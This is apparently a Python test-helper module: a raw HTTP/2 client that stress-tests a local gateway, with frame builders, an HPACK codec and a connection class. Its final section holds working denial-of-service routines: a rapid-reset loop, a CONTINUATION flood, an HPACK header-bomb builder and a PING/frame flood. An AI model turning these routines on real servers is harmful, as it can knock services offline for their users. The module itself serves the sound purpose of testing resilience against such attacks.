"""A small raw HTTP/2 client for the hostile-client tests (standard library only).

It sends exactly the frames a test asks for -- including ones no polite
client would send (a reset right after every request, a CONTINUATION
flood, a header block that inflates through the HPACK dynamic table,
100,000 PINGs never read back) -- and reads the gateway's frames back one
by one, so that a test can assert on concrete frames, stream states and
error codes.

What is here:
  frame builders     frame(), settings_frame(), ping_frame(), rst_frame(),
                     window_update_frame(), goaway_frame(), headers_frame(),
                     continuation_frame(), data_frame()
  Frame              one received frame, with its fields decoded
                     (.error_code, .last_stream, .settings, .increment);
                     parse_frames() splits raw bytes into Frames
  Encoder            a minimal HPACK encoder: indexed fields, literal fields
                     (with or without incremental indexing), never Huffman
  Decoder            an HPACK decoder: static + dynamic table, size
                     updates, Huffman strings (RFC 7541 Appendix B)
  Conn               one connection (cleartext h2c with prior knowledge, or
                     TLS with ALPN h2): the preface, SETTINGS exchange,
                     requests, responses, and bookkeeping of every frame read

Nothing here blocks forever: every read has a deadline (Timeout is raised
when it passes) and sends use the socket timeout.
"""

import select
import socket
import ssl
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

# Frame types (RFC 9113 section 6).
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, \
    WINDOW_UPDATE, CONTINUATION = range(10)
FRAME_NAMES = ("DATA", "HEADERS", "PRIORITY", "RST_STREAM", "SETTINGS", "PUSH_PROMISE",
               "PING", "GOAWAY", "WINDOW_UPDATE", "CONTINUATION")

# Flags.
END_STREAM = 0x1
ACK = 0x1
END_HEADERS = 0x4
PADDED = 0x8
PRIORITY_FLAG = 0x20

# SETTINGS identifiers.
HEADER_TABLE_SIZE = 0x1
ENABLE_PUSH = 0x2
MAX_CONCURRENT_STREAMS = 0x3
INITIAL_WINDOW_SIZE = 0x4
MAX_FRAME_SIZE = 0x5
MAX_HEADER_LIST_SIZE = 0x6
SETTING_NAMES = {1: "HEADER_TABLE_SIZE", 2: "ENABLE_PUSH", 3: "MAX_CONCURRENT_STREAMS",
                 4: "INITIAL_WINDOW_SIZE", 5: "MAX_FRAME_SIZE", 6: "MAX_HEADER_LIST_SIZE",
                 8: "ENABLE_CONNECT_PROTOCOL", 9: "NO_RFC7540_PRIORITIES"}

# Error codes (RFC 9113 section 7).
NO_ERROR, PROTOCOL_ERROR, INTERNAL_ERROR, FLOW_CONTROL_ERROR, SETTINGS_TIMEOUT, \
    STREAM_CLOSED, FRAME_SIZE_ERROR, REFUSED_STREAM, CANCEL, COMPRESSION_ERROR, \
    CONNECT_ERROR, ENHANCE_YOUR_CALM, INADEQUATE_SECURITY, HTTP_1_1_REQUIRED = range(14)
ERROR_NAMES = ("NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR",
               "SETTINGS_TIMEOUT", "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM",
               "CANCEL", "COMPRESSION_ERROR", "CONNECT_ERROR", "ENHANCE_YOUR_CALM",
               "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED")

DEFAULT_WINDOW = 65535
DEFAULT_MAX_FRAME = 16384


def error_name(code):
    return ERROR_NAMES[code] if 0 <= code < len(ERROR_NAMES) else "0x%x" % code


class Timeout(Exception):
    """A deadline passed while waiting for frames."""


# ------------------------------------------------------------ frames out


def frame(ftype, flags, stream_id, payload=b""):
    """One frame: 9-byte header (24-bit length, type, flags, stream id)."""
    n = len(payload)
    return struct.pack(">BHBBI", n >> 16, n & 0xFFFF, ftype, flags,
                       stream_id & 0x7FFFFFFF) + payload


def settings_frame(settings=(), ack=False):
    """settings: a dict or (id, value) pairs."""
    items = settings.items() if isinstance(settings, dict) else settings
    return frame(SETTINGS, ACK if ack else 0, 0,
                 b"".join(struct.pack(">HI", k, v) for k, v in items))


def ping_frame(data=b"\0" * 8, ack=False):
    return frame(PING, ACK if ack else 0, 0, data)


def rst_frame(stream_id, code=CANCEL):
    return frame(RST_STREAM, 0, stream_id, struct.pack(">I", code))


def window_update_frame(stream_id, increment):
    return frame(WINDOW_UPDATE, 0, stream_id, struct.pack(">I", increment))


def goaway_frame(last_stream, code=NO_ERROR, debug=b""):
    return frame(GOAWAY, 0, 0, struct.pack(">II", last_stream, code) + debug)


def headers_frame(stream_id, block, end_stream=True, end_headers=True):
    flags = (END_STREAM if end_stream else 0) | (END_HEADERS if end_headers else 0)
    return frame(HEADERS, flags, stream_id, block)


def continuation_frame(stream_id, block, end_headers=False):
    return frame(CONTINUATION, END_HEADERS if end_headers else 0, stream_id, block)


def data_frame(stream_id, data, end_stream=True):
    return frame(DATA, END_STREAM if end_stream else 0, stream_id, data)


# ------------------------------------------------------------- frames in


class Frame:
    """One frame read from the peer; payload-specific fields decoded."""

    def __init__(self, ftype, flags, stream, payload):
        self.type = ftype
        self.flags = flags
        self.stream = stream
        self.payload = payload

    @property
    def name(self):
        return FRAME_NAMES[self.type] if self.type < len(FRAME_NAMES) else "0x%x" % self.type

    @property
    def error_code(self):
        """RST_STREAM's or GOAWAY's error code."""
        if self.type == RST_STREAM:
            return struct.unpack(">I", self.payload[:4])[0]
        if self.type == GOAWAY:
            return struct.unpack(">I", self.payload[4:8])[0]
        raise ValueError("%s has no error code" % self.name)

    @property
    def last_stream(self):
        """GOAWAY's last stream id."""
        return struct.unpack(">I", self.payload[:4])[0] & 0x7FFFFFFF

    @property
    def debug(self):
        """GOAWAY's debug data."""
        return self.payload[8:]

    @property
    def settings(self):
        """SETTINGS' {id: value}."""
        p = self.payload
        return {struct.unpack(">H", p[i:i + 2])[0]: struct.unpack(">I", p[i + 2:i + 6])[0]
                for i in range(0, len(p) - len(p) % 6, 6)}

    @property
    def increment(self):
        return struct.unpack(">I", self.payload[:4])[0] & 0x7FFFFFFF

    def __repr__(self):
        extra = ""
        if self.type in (RST_STREAM, GOAWAY):
            extra = " %s" % error_name(self.error_code)
        if self.type == GOAWAY:
            extra += " last=%d debug=%r" % (self.last_stream, self.debug[:80])
        if self.type == SETTINGS and not self.flags & ACK:
            extra = " " + ",".join("%s=%d" % (SETTING_NAMES.get(k, k), v)
                                   for k, v in sorted(self.settings.items()))
        if self.type == WINDOW_UPDATE:
            extra = " +%d" % self.increment
        return "<%s flags=0x%x stream=%d len=%d%s>" % (self.name, self.flags, self.stream,
                                                       len(self.payload), extra)


def parse_frames(data):
    """The whole frames in `data` (bytes read raw from a socket), in order;
    a trailing partial frame is ignored."""
    frames, pos = [], 0
    while pos + 9 <= len(data):
        n = (data[pos] << 16) | (data[pos + 1] << 8) | data[pos + 2]
        if pos + 9 + n > len(data):
            break
        sid = struct.unpack(">I", data[pos + 5:pos + 9])[0] & 0x7FFFFFFF
        frames.append(Frame(data[pos + 3], data[pos + 4], sid, bytes(data[pos + 9:pos + 9 + n])))
        pos += 9 + n
    return frames


# ------------------------------------------------------------------ HPACK

# RFC 7541 Appendix A.
STATIC_TABLE = [(n.encode(), v.encode()) for n, v in (
    (":authority", ""), (":method", "GET"), (":method", "POST"), (":path", "/"),
    (":path", "/index.html"), (":scheme", "http"), (":scheme", "https"), (":status", "200"),
    (":status", "204"), (":status", "206"), (":status", "304"), (":status", "400"),
    (":status", "404"), (":status", "500"), ("accept-charset", ""),
    ("accept-encoding", "gzip, deflate"), ("accept-language", ""), ("accept-ranges", ""),
    ("accept", ""), ("access-control-allow-origin", ""), ("age", ""), ("allow", ""),
    ("authorization", ""), ("cache-control", ""), ("content-disposition", ""),
    ("content-encoding", ""), ("content-language", ""), ("content-length", ""),
    ("content-location", ""), ("content-range", ""), ("content-type", ""), ("cookie", ""),
    ("date", ""), ("etag", ""), ("expect", ""), ("expires", ""), ("from", ""), ("host", ""),
    ("if-match", ""), ("if-modified-since", ""), ("if-none-match", ""), ("if-range", ""),
    ("if-unmodified-since", ""), ("last-modified", ""), ("link", ""), ("location", ""),
    ("max-forwards", ""), ("proxy-authenticate", ""), ("proxy-authorization", ""),
    ("range", ""), ("referer", ""), ("refresh", ""), ("retry-after", ""), ("server", ""),
    ("set-cookie", ""), ("strict-transport-security", ""), ("transfer-encoding", ""),
    ("user-agent", ""), ("vary", ""), ("via", ""), ("www-authenticate", ""))]
assert len(STATIC_TABLE) == 61

# RFC 7541 Appendix B, the length in bits of each symbol's code (symbols
# 0..255, then EOS = 256), 16 symbols a row. The code is canonical: codes
# of the same length are consecutive numbers in symbol order, and each
# length starts where the previous one ended, shifted left. So the lengths
# alone determine every code (checked against codes printed in the RFC
# below).
HUFFMAN_LENGTHS = (
    13, 23, 28, 28, 28, 28, 28, 28, 28, 24, 30, 28, 28, 30, 28, 28,   # 0
    28, 28, 28, 28, 28, 28, 30, 28, 28, 28, 28, 28, 28, 28, 28, 28,   # 16
    6, 10, 10, 12, 13, 6, 8, 11, 10, 10, 8, 11, 8, 6, 6, 6,           # 32 ' '
    5, 5, 5, 6, 6, 6, 6, 6, 6, 6, 7, 8, 15, 6, 12, 10,                # 48 '0'
    13, 6, 7, 7, 7, 7, 7, 7, 7, 7, 7, 7, 7, 7, 7, 7,                  # 64 '@'
    7, 7, 7, 7, 7, 7, 7, 7, 8, 7, 8, 13, 19, 13, 14, 6,               # 80 'P'
    15, 5, 6, 5, 6, 5, 6, 6, 6, 5, 7, 7, 6, 6, 6, 5,                  # 96 '`'
    6, 7, 6, 5, 5, 6, 7, 7, 7, 7, 7, 15, 11, 14, 13, 28,              # 112 'p'
    20, 22, 20, 20, 22, 22, 22, 23, 22, 23, 23, 23, 23, 23, 24, 23,   # 128
    24, 24, 22, 23, 24, 23, 23, 23, 23, 21, 22, 23, 22, 23, 23, 24,   # 144
    22, 21, 20, 22, 22, 23, 23, 21, 23, 22, 22, 24, 21, 22, 23, 23,   # 160
    21, 21, 22, 21, 23, 22, 23, 23, 20, 22, 22, 22, 23, 22, 22, 23,   # 176
    26, 26, 20, 19, 22, 23, 22, 25, 26, 26, 26, 27, 27, 26, 24, 25,   # 192
    19, 21, 26, 27, 27, 26, 27, 24, 21, 21, 26, 26, 28, 27, 27, 27,   # 208
    20, 24, 20, 21, 22, 21, 21, 23, 22, 22, 25, 25, 24, 24, 26, 23,   # 224
    26, 27, 26, 26, 27, 27, 27, 27, 27, 28, 27, 27, 27, 27, 27, 26,   # 240
    30)                                                               # EOS
assert len(HUFFMAN_LENGTHS) == 257


def _canonical_codes(lengths):
    """[(code, length)] per symbol of a canonical Huffman code."""
    order = sorted(range(len(lengths)), key=lambda s: (lengths[s], s))
    codes = [None] * len(lengths)
    code, prev_len = 0, lengths[order[0]]
    for i, sym in enumerate(order):
        if i:
            code = (code + 1) << (lengths[sym] - prev_len)
        prev_len = lengths[sym]
        codes[sym] = (code, lengths[sym])
    return codes


HUFFMAN_CODES = _canonical_codes(HUFFMAN_LENGTHS)
# A few codes as the RFC prints them (hex, LSB-aligned): a typo in the
# lengths above would shift every later code and fail here.
for _sym, _code in ((0, 0x1ff8), (1, 0x7fffd8), (9, 0xffffea), (10, 0x3ffffffc), (32, 0x14),
                    (47, 0x18), (48, 0x0), (97, 0x3), (127, 0xffffffc), (128, 0xfffe6),
                    (203, 0x7ffffde), (220, 0xffffffd), (255, 0x3ffffee), (256, 0x3fffffff)):
    assert HUFFMAN_CODES[_sym][0] == _code, (_sym, hex(HUFFMAN_CODES[_sym][0]))
# ... and the code is complete (Kraft sum exactly 1).
assert sum(1 << (30 - n) for n in HUFFMAN_LENGTHS) == 1 << 30
_HUFFMAN_DECODE = {(length, code): sym for sym, (code, length) in enumerate(HUFFMAN_CODES)}


class HpackError(Exception):
    pass


def huffman_decode(data):
    """Decodes a Huffman-coded string; padding must be < 8 one-bits (RFC 7541 5.2)."""
    out = bytearray()
    code = length = 0
    for byte in data:
        for shift in range(7, -1, -1):
            code = (code << 1) | ((byte >> shift) & 1)
            length += 1
            sym = _HUFFMAN_DECODE.get((length, code))
            if sym is not None:
                if sym == 256:
                    raise HpackError("EOS symbol inside a Huffman string")
                out.append(sym)
                code = length = 0
            elif length > 30:
                raise HpackError("invalid Huffman code")
    if length > 7 or code != (1 << length) - 1:
        raise HpackError("bad Huffman padding")
    return bytes(out)


def huffman_encode(data):
    """Huffman-codes a string (used to check the decoder against itself)."""
    acc = nbits = 0
    for b in data:
        code, length = HUFFMAN_CODES[b]
        acc = (acc << length) | code
        nbits += length
    pad = -nbits % 8
    acc = (acc << pad) | ((1 << pad) - 1)
    return ((acc).to_bytes((nbits + pad) // 8, "big")) if nbits + pad else b""


assert huffman_decode(bytes.fromhex("f1e3c2e5f23a6ba0ab90f4ff")) == b"www.example.com"  # RFC C.4.1
assert huffman_decode(huffman_encode(bytes(range(256)))) == bytes(range(256))


def encode_int(value, prefix_bits, first=0):
    """HPACK integer (RFC 7541 5.1); `first` carries the bits above the prefix."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = bytearray([first | limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def decode_int(data, pos, prefix_bits):
    limit = (1 << prefix_bits) - 1
    value = data[pos] & limit
    pos += 1
    if value < limit:
        return value, pos
    shift = 0
    while True:
        if pos >= len(data):
            raise HpackError("truncated integer")
        b = data[pos]
        pos += 1
        value += (b & 0x7F) << shift
        shift += 7
        if not b & 0x80:
            return value, pos
        if shift > 28:
            raise HpackError("integer too large")


def encode_str(s):
    """A string literal, never Huffman-coded (H bit 0)."""
    if isinstance(s, str):
        s = s.encode("latin-1")
    return encode_int(len(s), 7) + s


def decode_str(data, pos):
    huff = data[pos] & 0x80
    n, pos = decode_int(data, pos, 7)
    if pos + n > len(data):
        raise HpackError("truncated string")
    raw = bytes(data[pos:pos + n])
    return (huffman_decode(raw) if huff else raw), pos + n


class Encoder:
    """Builds header blocks field by field; it keeps no dynamic table of its
    own, so a test that indexes decides itself which dynamic index (62 is
    the newest entry) refers to what."""

    @staticmethod
    def indexed(index):
        """Indexed header field (static 1..61, dynamic 62..)."""
        return encode_int(index, 7, 0x80)

    @staticmethod
    def literal(name, value, index=False, name_index=0):
        """Literal field without indexing, or with incremental indexing
        (index=True: the field is inserted into the peer's dynamic table).
        name_index refers to a table entry for the name instead of a literal."""
        if index:
            head = encode_int(name_index, 6, 0x40)
        else:
            head = encode_int(name_index, 4, 0x00)
        return head + (b"" if name_index else encode_str(name)) + encode_str(value)

    @staticmethod
    def table_size_update(size):
        return encode_int(size, 5, 0x20)

    @classmethod
    def request(cls, path="/", method="GET", authority="localhost", scheme="http",
                headers=()):
        """A request's header block: pseudo-headers from the static table
        where there is an entry, then `headers` as literals."""
        out = [cls.indexed(2) if method == "GET" else
               cls.indexed(3) if method == "POST" else cls.literal(b"", method, name_index=2)]
        out.append(cls.indexed(6) if scheme == "http" else cls.indexed(7))
        out.append(cls.indexed(4) if path == "/" else cls.literal(b"", path, name_index=4))
        out.append(cls.literal(b"", authority, name_index=1))
        for n, v in headers:
            out.append(cls.literal(n, v))
        return b"".join(out)


class Decoder:
    """HPACK decoder with a dynamic table (RFC 7541 sections 2-6)."""

    def __init__(self, max_size=4096):
        self.max_size = max_size      # our SETTINGS_HEADER_TABLE_SIZE
        self.size_limit = max_size    # the peer's latest size update
        self.table = []               # newest first
        self.size = 0

    def _evict(self):
        while self.size > self.size_limit and self.table:
            n, v = self.table.pop()
            self.size -= len(n) + len(v) + 32

    def _add(self, name, value):
        self.table.insert(0, (name, value))
        self.size += len(name) + len(value) + 32
        self._evict()

    def _get(self, index):
        if index == 0:
            raise HpackError("index 0")
        if index <= 61:
            return STATIC_TABLE[index - 1]
        if index - 62 >= len(self.table):
            raise HpackError("index %d past the dynamic table (%d entries)"
                             % (index, len(self.table)))
        return self.table[index - 62]

    def decode(self, block):
        """[(name, value)] as bytes."""
        out = []
        pos = 0
        while pos < len(block):
            b = block[pos]
            if b & 0x80:                      # indexed field
                index, pos = decode_int(block, pos, 7)
                out.append(self._get(index))
                continue
            if b & 0xC0 == 0x40:              # literal, incremental indexing
                index, pos = decode_int(block, pos, 6)
                add = True
            elif b & 0xE0 == 0x20:            # dynamic table size update
                size, pos = decode_int(block, pos, 5)
                if size > self.max_size:
                    raise HpackError("table size update %d over %d" % (size, self.max_size))
                self.size_limit = size
                self._evict()
                continue
            else:                             # literal without / never indexed
                index, pos = decode_int(block, pos, 4)
                add = False
            if index:
                name = self._get(index)[0]
            else:
                name, pos = decode_str(block, pos)
            value, pos = decode_str(block, pos)
            out.append((name, value))
            if add:
                self._add(name, value)
        return out


# ------------------------------------------------------------- connection


class Stream:
    """What the peer sent on one stream."""

    def __init__(self, sid):
        self.id = sid
        self.headers = None       # first header block: [(name, value)] (str)
        self.trailers = None
        self.body = bytearray()
        self.ended = False        # END_STREAM received
        self.reset = None         # RST_STREAM error code received

    @property
    def status(self):
        if self.headers is None:
            return None
        for n, v in self.headers:
            if n == ":status":
                return int(v)
        return None

    def header(self, name):
        for n, v in self.headers or ():
            if n == name:
                return v
        return None

    def __repr__(self):
        return "<stream %d status=%s ended=%s reset=%s body=%r>" % (
            self.id, self.status, self.ended,
            None if self.reset is None else error_name(self.reset), bytes(self.body[:200]))


class Conn:
    """One HTTP/2 connection to 127.0.0.1:port.

    tls=None: cleartext h2c with prior knowledge. tls=CAFILE (or True to
    skip verification): TLS offering ALPN "h2" only; the connection fails
    unless the server selects it.

    By default the connection behaves: it acknowledges SETTINGS and PINGs
    and returns flow-control credit for the DATA it reads (auto=True).
    auto=False turns all three off, for clients that never answer.
    Every frame read is kept in .frames (up to `keep` of them), the GOAWAY
    (if any) in .goaway, each stream's state in .streams, and .closed says
    whether the peer closed (EOF or reset seen by a read; .send_failed
    when a write found it closed first).
    """

    def __init__(self, port, tls=None, host="127.0.0.1", server_hostname="localhost",
                 timeout=5, auto=True, rcvbuf=None, keep=10000):
        self.timeout = timeout
        self.auto = auto
        self.keep = keep
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if rcvbuf:
            # Before connect, so the window scale is chosen for it.
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        sock.settimeout(timeout)
        sock.connect((host, port))
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if tls is not None:
            ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            if tls is True:
                ctx.check_hostname = False
                ctx.verify_mode = ssl.CERT_NONE
            else:
                ctx.load_verify_locations(cafile=tls)
            ctx.set_alpn_protocols(["h2"])
            sock = ctx.wrap_socket(sock, server_hostname=server_hostname)
            if sock.selected_alpn_protocol() != "h2":
                sock.close()
                raise AssertionError("server selected ALPN %r, not h2"
                                     % sock.selected_alpn_protocol())
        self.sock = sock
        self.buf = bytearray()
        self.closed = False         # EOF or reset seen when reading
        self.send_failed = False    # a write found the connection closed
        self.reset_by_peer = False
        self.frames = []
        self.nframes = 0
        self.goaway = None
        self.server_settings = None
        self.settings_acked = 0
        self.pings_acked = 0
        self.streams = {}
        self.next_stream = 1
        self.decoder = Decoder()
        self._block = None        # (stream id, bytearray) of a header block in progress
        self.sent_bytes = 0

    # -- context manager

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        self.close()
        return False

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass

    # -- sending

    def send(self, data):
        """Sends bytes; returns False (and sets .send_failed) when the peer
        has closed or reset the connection. What it sent before closing
        can still be read."""
        if self.send_failed:
            return False
        try:
            self.sock.sendall(data)
            self.sent_bytes += len(data)
            return True
        except (BrokenPipeError, ConnectionResetError, ssl.SSLEOFError, ssl.SSLZeroReturnError):
            self.send_failed = True
            return False
        except ssl.SSLError as e:
            # A TLS peer that closed mid-write.
            if "BAD_LENGTH" in str(e) or "EOF" in str(e):
                self.send_failed = True
                return False
            raise

    def start(self, settings=None, wait=True):
        """Client preface + SETTINGS (default: push off); with wait, reads
        until the server's SETTINGS arrived (acknowledging it)."""
        if settings is None:
            settings = {ENABLE_PUSH: 0}
        self.send(PREFACE + settings_frame(settings))
        if wait:
            self.read_until(lambda: self.server_settings is not None, what="server SETTINGS")
        return self.server_settings

    def new_stream(self):
        sid = self.next_stream
        self.next_stream += 2
        self.streams[sid] = Stream(sid)
        return sid

    def request(self, path="/", method="GET", headers=(), authority="localhost",
                scheme="http", body=None):
        """Opens a stream with a request; returns its id."""
        sid = self.new_stream()
        block = Encoder.request(path, method, authority, scheme, headers)
        if body is None:
            self.send(headers_frame(sid, block, end_stream=True))
        else:
            self.send(headers_frame(sid, block, end_stream=False) + data_frame(sid, body))
        return sid

    # -- receiving

    def _fill(self, deadline):
        remaining = deadline - time.monotonic()
        if remaining <= 0:
            raise Timeout()
        self.sock.settimeout(min(remaining, self.timeout))
        try:
            data = self.sock.recv(1 << 18)
        except (socket.timeout, TimeoutError):
            if time.monotonic() >= deadline:
                raise Timeout()
            return True
        except (ConnectionResetError, ssl.SSLEOFError):
            self.closed = self.reset_by_peer = True
            return False
        except ssl.SSLError as e:
            if "EOF" in str(e) or "BAD_RECORD" in str(e):
                self.closed = True
                return False
            raise
        if not data:
            self.closed = True
            return False
        self.buf += data
        return True

    def _buffered_frame(self):
        """Takes one whole frame off the buffer (handled), or None."""
        if len(self.buf) < 9:
            return None
        n = (self.buf[0] << 16) | (self.buf[1] << 8) | self.buf[2]
        if len(self.buf) < 9 + n:
            return None
        ftype, flags = self.buf[3], self.buf[4]
        sid = struct.unpack(">I", self.buf[5:9])[0] & 0x7FFFFFFF
        f = Frame(ftype, flags, sid, bytes(self.buf[9:9 + n]))
        del self.buf[:9 + n]
        self.nframes += 1
        if len(self.frames) < self.keep:
            self.frames.append(f)
        self.handle(f)
        return f

    def read_frame(self, timeout=None):
        """The next frame (handled: see handle()), or None once the peer closed."""
        deadline = time.monotonic() + (self.timeout if timeout is None else timeout)
        while True:
            f = self._buffered_frame()
            if f is not None:
                return f
            if self.closed or not self._fill(deadline):
                return None

    def poll(self):
        """Reads and handles whatever has arrived, without waiting; returns
        the number of frames handled."""
        count = 0
        while not self.closed:
            pending = isinstance(self.sock, ssl.SSLSocket) and self.sock.pending()
            if not pending and not select.select([self.sock], [], [], 0)[0]:
                break
            if not self._fill(time.monotonic() + self.timeout):
                break
            while self._buffered_frame() is not None:
                count += 1
        while self._buffered_frame() is not None:
            count += 1
        return count

    def handle(self, f):
        """Bookkeeping of one received frame (and the polite answers when auto)."""
        if f.type == SETTINGS:
            if f.flags & ACK:
                self.settings_acked += 1
            else:
                if self.server_settings is None:
                    self.server_settings = {}
                self.server_settings.update(f.settings)
                if self.auto:
                    self.send(settings_frame(ack=True))
        elif f.type == PING:
            if f.flags & ACK:
                self.pings_acked += 1
            elif self.auto:
                self.send(ping_frame(f.payload, ack=True))
        elif f.type == GOAWAY:
            self.goaway = f
        elif f.type == RST_STREAM:
            self._stream(f.stream).reset = f.error_code
        elif f.type in (HEADERS, PUSH_PROMISE):
            payload = f.payload
            if f.flags & PADDED:
                pad = payload[0]
                payload = payload[1:len(payload) - pad]
            if f.type == HEADERS and f.flags & PRIORITY_FLAG:
                payload = payload[5:]
            if f.type == PUSH_PROMISE:
                payload = payload[4:]
            self._block = (f.stream, bytearray(payload), f.type == HEADERS,
                           bool(f.flags & END_STREAM))
            if f.flags & END_HEADERS:
                self._end_block()
        elif f.type == CONTINUATION and self._block is not None:
            self._block[1].extend(f.payload)
            if f.flags & END_HEADERS:
                self._end_block()
        elif f.type == DATA:
            payload = f.payload
            if f.flags & PADDED:
                payload = payload[1:len(payload) - payload[0]]
            s = self._stream(f.stream)
            s.body += payload
            if f.flags & END_STREAM:
                s.ended = True
            if self.auto and f.payload:
                self.send(window_update_frame(0, len(f.payload)) +
                          (window_update_frame(f.stream, len(f.payload))
                           if not s.ended else b""))

    def _stream(self, sid):
        if sid not in self.streams:
            self.streams[sid] = Stream(sid)
        return self.streams[sid]

    def _end_block(self):
        sid, block, is_headers, end_stream = self._block
        self._block = None
        # Every block goes through the decoder, in order: it updates the
        # dynamic table that later blocks refer to.
        fields = [(n.decode("latin-1"), v.decode("latin-1"))
                  for n, v in self.decoder.decode(bytes(block))]
        if not is_headers:
            return
        s = self._stream(sid)
        if s.headers is None:
            s.headers = fields
        else:
            s.trailers = fields
        if end_stream:
            s.ended = True

    def read_until(self, pred, timeout=None, what="condition"):
        """Reads frames until pred() is true (returns True) or the peer
        closed (returns False). Raises Timeout when the deadline passes."""
        deadline = time.monotonic() + (self.timeout if timeout is None else timeout)
        while not pred():
            if self.closed and len(self.buf) < 9:
                return pred()
            try:
                f = self.read_frame(timeout=max(0.0, deadline - time.monotonic()))
            except Timeout:
                raise Timeout("timed out waiting for %s; last frames: %r"
                              % (what, self.frames[-8:]))
            if f is None:
                return bool(pred())
        return True

    def response(self, sid, timeout=None):
        """Reads until stream `sid` ended or was reset (or the peer closed);
        returns the Stream."""
        s = self._stream(sid)
        self.read_until(lambda: s.ended or s.reset is not None, timeout,
                        what="the end of stream %d" % sid)
        return s

    def get(self, path="/", timeout=None, **kw):
        """One request and its response."""
        return self.response(self.request(path, **kw), timeout)

    def drain(self, timeout=None):
        """Reads (and handles) frames until the peer closes; returns True if
        it closed within the timeout (a GOAWAY, if any, is in .goaway)."""
        try:
            self.read_until(lambda: False, timeout, what="the connection to close")
        except Timeout:
            return False
        return True


# ---------------------------------------------------------------- attacks
# Each takes a started Conn, sends a bounded amount, and stops early once
# the peer sent GOAWAY or closed. None of them waits for the end: the test
# calls conn.drain() and looks at what came back.


def rapid_reset(conn, pairs=20000, batch=100, path="/rapid-reset"):
    """Opens a stream with a complete GET and resets it (CANCEL) at once,
    `pairs` times, `batch` pairs per write; returns how many pairs were sent."""
    block = Encoder.request(path)
    sent = 0
    while sent < pairs and not conn.closed and not conn.send_failed and conn.goaway is None:
        out = bytearray()
        for _ in range(min(batch, pairs - sent)):
            sid = conn.next_stream
            conn.next_stream += 2
            out += headers_frame(sid, block) + rst_frame(sid, CANCEL)
        if not conn.send(bytes(out)):
            break
        sent += batch
        conn.poll()
    return sent


def continuation_flood(conn, frames=10000, batch=100):
    """One HEADERS frame without END_HEADERS, then up to `frames`
    CONTINUATION frames of one byte each, never END_HEADERS. The whole
    block (a single 1-byte-per-frame literal field) stays far below any
    header size limit: only the number of frames is hostile. Returns how
    many CONTINUATION frames were sent."""
    sid = conn.new_stream()
    block = Encoder.request("/continuation") + Encoder.literal("x-flood", "a" * (frames + 16))
    head, rest = block[:len(block) - frames], block[len(block) - frames:]
    if not conn.send(headers_frame(sid, head, end_stream=True, end_headers=False)):
        return 0
    sent = 0
    while sent < frames and not conn.closed and not conn.send_failed and conn.goaway is None:
        n = min(batch, frames - sent)
        out = b"".join(continuation_frame(sid, rest[i:i + 1])
                       for i in range(sent, sent + n))
        if not conn.send(out):
            break
        sent += n
        conn.poll()
    return sent


def hpack_bomb_block(path="/bomb", value_len=4000, refs=16000):
    """A header block that is ~value_len + refs bytes on the wire but decodes
    to refs * value_len bytes: one field inserted into the dynamic table
    (literal with incremental indexing; 4 KiB table by default), then
    referenced `refs` times by its dynamic index 62 (one byte each)."""
    return (Encoder.request(path)
            + Encoder.literal("x-bomb", "b" * value_len, index=True)
            + Encoder.indexed(62) * refs)


def send_header_block(conn, sid, block, end_stream=True, max_frame=DEFAULT_MAX_FRAME):
    """A header block as HEADERS + as many CONTINUATIONs as it needs."""
    pieces = [block[i:i + max_frame] for i in range(0, len(block), max_frame)] or [b""]
    out = [headers_frame(sid, pieces[0], end_stream=end_stream,
                         end_headers=len(pieces) == 1)]
    for i, p in enumerate(pieces[1:], 1):
        out.append(continuation_frame(sid, p, end_headers=i == len(pieces) - 1))
    return conn.send(b"".join(out))


def flood(conn, one_frame, count=100000, batch=1000):
    """Sends the same frame `count` times, `batch` per write, without
    reading anything back (make the Conn with auto=False); returns how
    many were sent before the peer closed."""
    chunk = one_frame * batch
    sent = 0
    while sent < count and not conn.closed and not conn.send_failed:
        if not conn.send(chunk):
            break
        sent += batch
    return sent
